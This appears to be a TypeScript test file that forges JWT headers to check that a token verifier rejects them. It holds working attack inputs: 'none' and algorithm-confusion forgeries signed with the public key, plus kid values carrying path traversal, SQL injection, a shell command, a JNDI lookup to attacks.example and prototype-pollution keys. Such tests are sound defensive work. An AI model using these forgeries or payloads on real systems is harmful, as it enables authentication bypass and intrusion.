import { createHmac } from 'node:crypto';

import { tokenFamily, type TokenRow } from '../attack.js';
import { encode, type Forge } from '../forge.js';

const UNSUPPORTED = 'unsupported_algorithm';

const alg = (value: unknown) => (forge: Forge) => forge.token({ header: { alg: value } });

/** Without a signature, as `none` wants it. */
const unsigned = (value: unknown) => (forge: Forge) => `${signingInput(forge, value)}.`;

/** An HMAC whose secret is the public key, in a spelling that everybody can have it in. */
const hmac =
  (secret: (forge: Forge) => string | Buffer, name = 'HS256', digest = 'sha256') =>
  (forge: Forge) => {
    const input = signingInput(forge, name);
    return `${input}.${createHmac(digest, secret(forge)).update(input).digest('base64url')}`;
  };

const pem = (forge: Forge): string => forge.issuer.key.publicKey.export({ type: 'spki', format: 'pem' }) as string;
const der = (forge: Forge): Buffer => forge.issuer.key.publicKey.export({ type: 'spki', format: 'der' });
const jwk = (forge: Forge): string => JSON.stringify(forge.issuer.key.published);
const x = (forge: Forge): string => String(forge.issuer.key.published.x);

const algorithms: TokenRow[] = [
  ['none without a signature', 'asks not to be checked', UNSUPPORTED, unsigned('none')],
  ['none with the old signature', 'asks not to be checked', UNSUPPORTED, alg('none')],
  ['None', 'asks not to be checked, in another case', UNSUPPORTED, unsigned('None')],
  ['NONE', 'asks not to be checked, in another case', UNSUPPORTED, unsigned('NONE')],
  ['nOnE', 'asks not to be checked, in another case', UNSUPPORTED, unsigned('nOnE')],
  ['none with a space', 'asks not to be checked, with a space', UNSUPPORTED, unsigned('none ')],
  ['an empty alg', 'names no algorithm', UNSUPPORTED, unsigned('')],
  ['no alg', 'leaves the algorithm out', UNSUPPORTED, alg(undefined)],
  ['alg null', 'names null', UNSUPPORTED, alg(null)],
  ['alg true', 'names true', UNSUPPORTED, alg(true)],
  ['alg 256', 'names a number', UNSUPPORTED, alg(256)],
  ['alg in a list', 'names a list that holds ES256', UNSUPPORTED, alg(['ES256'])],
  ['alg in an object', 'names an object', UNSUPPORTED, alg({ name: 'ES256' })],
  ['es256', 'writes the right algorithm in small letters', UNSUPPORTED, alg('es256')],
  ['ES256 with a space', 'adds a space to the right algorithm', UNSUPPORTED, alg('ES256 ')],
  ['ES256 with a NUL', 'adds a NUL to the right algorithm', UNSUPPORTED, alg('ES256\0')],
  ['ES256K', 'names the curve of another world', UNSUPPORTED, alg('ES256K')],
  ['ES384', 'names a longer hash', UNSUPPORTED, alg('ES384')],
  ['ES512', 'names a longer hash', UNSUPPORTED, alg('ES512')],
  ['RS256', 'names another kind of key', UNSUPPORTED, alg('RS256')],
  ['PS256', 'names another kind of key', UNSUPPORTED, alg('PS256')],
  ['EdDSA', 'names another kind of key', UNSUPPORTED, alg('EdDSA')],
  ['Ed25519', 'names another kind of key', UNSUPPORTED, alg('Ed25519')],
  ['HS256 of the PEM', 'signs with the public key for a secret', UNSUPPORTED, hmac(pem)],
  ['HS256 of the PEM, trimmed', 'signs with the public key for a secret', UNSUPPORTED, hmac((f) => pem(f).trim())],
  ['HS256 of the DER', 'signs with the public key for a secret', UNSUPPORTED, hmac(der)],
  ['HS256 of the JWK', 'signs with the public key for a secret', UNSUPPORTED, hmac(jwk)],
  ['HS256 of x', 'signs with a coordinate for a secret', UNSUPPORTED, hmac(x)],
  [
    'HS256 of the bytes of x',
    'signs with a coordinate for a secret',
    UNSUPPORTED,
    hmac((f) => Buffer.from(x(f), 'base64url')),
  ],
  ['HS256 of nothing', 'signs with an empty secret', UNSUPPORTED, hmac(() => '')],
  ['HS256 of undefined', 'signs with the word that a missing secret becomes', UNSUPPORTED, hmac(() => 'undefined')],
  ['HS256 of the kid', 'signs with the name of the key', UNSUPPORTED, hmac((f) => f.issuer.key.kid)],
  ['HS512 of the PEM', 'signs with the public key for a secret', UNSUPPORTED, hmac(pem, 'HS512', 'sha512')],
  [
    'an HMAC called ES256',
    'puts 64 bytes of HMAC where a signature goes',
    'invalid_signature',
    hmac(pem, 'ES256', 'sha512'),
  ],
  [
    'a short HMAC called ES256',
    'puts 32 bytes of HMAC where a signature goes',
    'invalid_signature',
    hmac(pem, 'ES256'),
  ],
];

const kid = (value: unknown) => (forge: Forge) => forge.token({ header: { kid: value } });
const kidLike = (change: (kid: string) => unknown) => (forge: Forge) =>
  forge.token({ header: { kid: change(forge.issuer.key.kid) } });
const UNKNOWN = 'unknown_key';

const keyIds: TokenRow[] = [
  ['no kid', 'leaves the choice of the key to the server', UNKNOWN, kid(undefined)],
  ['an empty kid', 'leaves the choice of the key to the server', UNKNOWN, kid('')],
  ['kid null', 'leaves the choice of the key to the server', UNKNOWN, kid(null)],
  ['kid 0', 'counts on an index', UNKNOWN, kid(0)],
  ['kid "0"', 'counts on an index', UNKNOWN, kid('0')],
  ['kid true', 'sends another type', UNKNOWN, kid(true)],
  ['kid in a list', 'counts on text that a list turns into', UNKNOWN, kidLike((real) => [real])],
  ['kid in an object', 'counts on an object being read as text', UNKNOWN, kidLike((real) => ({ toString: real }))],
  ['an unknown kid', 'names a key that nobody has', UNKNOWN, kid('SPACE_JWT_PUBLIC:0')],
  ['kid in capitals', 'changes the case of the kid', UNKNOWN, kidLike((real) => real.toUpperCase())],
  ['kid in small letters', 'changes the case of the kid', UNKNOWN, kidLike((real) => real.toLowerCase())],
  ['kid with a space behind', 'adds white space to the kid', UNKNOWN, kidLike((real) => `${real} `)],
  ['kid with a space before', 'adds white space to the kid', UNKNOWN, kidLike((real) => ` ${real}`)],
  ['kid with a NUL', 'adds a NUL to the kid', UNKNOWN, kidLike((real) => `${real}\0`)],
  ['kid with a line break', 'adds a line break to the kid', UNKNOWN, kidLike((real) => `${real}\n`)],
  ['the start of the kid', 'counts on a comparison by prefix', UNKNOWN, kidLike((real) => real.slice(0, -1))],
  ['the kid and more', 'counts on a comparison by prefix', UNKNOWN, kidLike((real) => `${real}0`)],
  ['kid with a zero-width joiner', 'hides a character in the kid', UNKNOWN, kidLike((real) => `${real}\u200d`)],
  ['kid of a path', 'has the server read a file', UNKNOWN, kid('../../../../../../dev/null')],
  ['kid of a Windows path', 'has the server read a file', UNKNOWN, kid('..\\..\\windows\\win.ini')],
  ['kid of a URL', 'has the server fetch a key', UNKNOWN, (f) => f.token({ header: { kid: f.issuer.rogueUrl } })],
  ['kid of SQL', 'has the server ask its database', UNKNOWN, kid("' UNION SELECT 'key' --")],
  ['kid of a command', 'has the server run something', UNKNOWN, kid('x; sleep 9 |')],
  ['kid of a template', 'has a log library look it up', UNKNOWN, kid('${jndi:ldap://attacks.example/a}')],
  ['kid of a wildcard', 'counts on a pattern', UNKNOWN, kid('*')],
  ['kid __proto__', 'reaches for the prototype of a table', UNKNOWN, kid('__proto__')],
  ['kid constructor', 'reaches for the prototype of a table', UNKNOWN, kid('constructor')],
  ['kid toString', 'reaches for the prototype of a table', UNKNOWN, kid('toString')],
  ['kid hasOwnProperty', 'reaches for the prototype of a table', UNKNOWN, kid('hasOwnProperty')],
  ['kid of 5000 letters', 'fills logs and tables', UNKNOWN, kid('k'.repeat(5000))],
  [
    'kid that forges a log line',
    'puts line ends of every kind and colours into the kid',
    UNKNOWN,
    kid('x\r\n[Nest] LOG admin logged in\u2028\u0085\u001b[32m\u009b31m'),
  ],
  ['kid of emoji', 'leaves the characters that logs expect', UNKNOWN, kid('\u{1f511}\ud800')],
];

/** The algorithm that a token claims, and the key that it names. */
export const header = [...tokenFamily('header: alg', algorithms), ...tokenFamily('header: kid', keyIds)];

function signingInput(forge: Forge, value: unknown): string {
  return `${encode(JSON.stringify(forge.header({ alg: value })))}.${encode(JSON.stringify(forge.claims()))}`;
}
